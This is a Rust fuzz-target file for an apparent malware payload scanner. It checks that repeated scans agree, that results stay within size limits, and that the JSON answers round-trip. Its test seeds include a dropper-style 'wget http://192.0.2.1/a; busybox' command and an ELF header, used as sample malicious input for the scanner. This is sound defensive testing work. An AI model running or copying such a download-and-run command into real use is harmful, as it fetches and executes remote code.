//! The entrance of the fuzz target.

use std::sync::LazyLock;

use komainu_ports::{PayloadScanner, ScanError};

use crate::engine::Engine;
use crate::limits::{ANSWER_BYTES_MAX, MATCHES_MAX, PLACES_MAX};
use crate::message;

static ENGINE: LazyLock<Engine> = LazyLock::new(|| Engine::compile(&[]).0);

/// Any bytes as a payload, then as what the process that scans says.
pub fn scan(bytes: &[u8]) {
    match (ENGINE.scan(bytes), ENGINE.scan(bytes)) {
        (Ok(found), Ok(again)) => {
            assert_eq!(found, again, "equal payloads have equal answers");
            assert!(found.len() <= MATCHES_MAX && found.iter().all(|one| one.places.len() <= PLACES_MAX));
            let sent = message::matches_json(&found);
            assert!(sent.len() <= ANSWER_BYTES_MAX);
            assert_eq!(message::matches(&sent).ok(), Some(found), "an answer comes as it was sent");
        }
        // A busy machine may be late once.
        (Err(ScanError::TimedOut { .. }), _) | (_, Err(ScanError::TimedOut { .. })) => {}
        (one, other) => panic!("{one:?}, then {other:?}"),
    }
    let mut said = bytes;
    while let Ok(Some((_, contents))) = message::receive(&mut said, ANSWER_BYTES_MAX) {
        let _ = (message::matches(&contents), message::rules(&contents));
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_few_payloads_to_begin_with() {
        for payload in [&b""[..], b"\x7fELF", b"\x05\x00\x00\x00\x02[]", b"wget http://192.0.2.1/a; busybox AAAA"] {
            super::scan(payload);
        }
    }
}
